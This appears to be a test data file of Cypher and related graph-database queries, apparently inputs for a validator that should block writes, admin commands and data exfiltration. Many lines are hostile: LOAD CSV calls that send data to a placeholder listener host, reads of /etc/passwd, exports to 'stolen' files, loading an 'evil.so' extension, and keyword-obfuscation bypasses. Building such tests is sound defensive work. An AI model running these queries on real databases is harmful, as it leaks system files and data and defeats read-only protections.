CREATE (n:Person {id: 'person-x', name: 'x'})

MATCH (n:Person) SET n.name = 'x' RETURN n

MATCH (n) DETACH DELETE n

MERGE (n:Person {id: 'person-x'}) RETURN n

MATCH (n:Person) REMOVE n.name RETURN n

MATCH (n:Person) FOREACH (x IN [1] | SET n.name = 'x')

UNWIND range(1, 10) AS i CREATE (n:Person {id: 'x' + i}) RETURN n

MATCH (n) RETURN n; MATCH (m) DETACH DELETE m

MATCH (n) RETURN count(n) /* ; */ ; CREATE (m:Person {id: 'x'})

/* RETURN 1 */ CREATE (n:Person {id: 'x'})

LOAD CSV FROM 'file:///etc/hostname' AS row RETURN row

LOAD CSV FROM 'http://{listener}/x.csv' AS row RETURN row

MATCH (n:Report) LOAD CSV FROM 'http://{listener}/' + n.id AS row RETURN row

load/**/csv from "http://{listener}/x" as row return row

MATCH (n) RETURN CASE WHEN n.x = 1 THEN COUNT { LOAD CSV FROM 'http://{listener}/x' AS r RETURN r } ELSE 0 END

RETURN COLLECT { UNWIND [1] AS x LOAD CSV FROM 'http://{listener}/x' AS r RETURN r } AS rows

CALL { LOAD CSV FROM 'http://{listener}/x' AS r RETURN r } RETURN r

LOAD FROM '/etc/hostname' (header=false, file_format='csv') RETURN *

LOAD WITH HEADERS (a STRING) FROM '/etc/hostname' (file_format='csv') RETURN a

MATCH (n:Person) LOAD FROM '/etc/hostname' (file_format='csv') RETURN *

WITH 1 AS load LOAD FROM 'http://{listener}/x.csv' RETURN *

COPY (MATCH (n) RETURN n.id) TO '{folder}/stolen.csv'

COPY Person FROM '/etc/passwd'

EXPORT DATABASE '{folder}/stolen'

IMPORT DATABASE '{folder}'

ATTACH '{folder}/other.db' AS other (dbtype sqlite)

INSTALL httpfs

LOAD EXTENSION '{folder}/evil.so'

CHECKPOINT

BEGIN TRANSACTION

CALL timeout=1

CALL threads=64

CALL enable_plan_optimizer=true

CREATE MACRO evil(x) AS x

DROP TABLE Person

ALTER TABLE Person ADD evil STRING

CALL clear_warnings() RETURN *

CALL project_graph('g', ['Person'], ['HOLDS']) RETURN *

CALL dbms.listConfig() YIELD name, value RETURN name, value

CALL dbms.killQueries([]) YIELD queryId RETURN queryId

CALL apoc.load.json('http://{listener}/x') YIELD value RETURN value

CALL `apoc`.`export`.`csv`.`all`('{folder}/stolen.csv', {})

RETURN apoc.cypher.runFirstColumnSingle('LOAD CSV FROM "http://{listener}/x" AS r RETURN r', {})

CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()

MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS RETURN n

CALL { CREATE (n:Person {id: 'x'}) RETURN n } RETURN n

CREATE INDEX FOR (n:Person) ON (n.name)

DROP CONSTRAINT Person_id

ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'

SHOW TRANSACTIONS

TERMINATE TRANSACTIONS 'neo4j-transaction-1'

USE system SHOW USERS

MATCH (n) CALL { USE system RETURN 1 AS x } RETURN x

PROFILE MATCH (n) SET n.x = 1

EXPLAIN MATCH (n) SET n.x = 1

CYPHER runtime=slotted MATCH (n) SET n.x = 1 RETURN n

MATCH (n) \u0053ET n.x = 1 RETURN n

RETURN '\u0027' + 1 AS x, 'a\u00' AS y

MATCH (n) RETURN `a\u0060 SET n.x = 1 //`

MATCH (n) ＳＥＴ n.x = 1 RETURN n
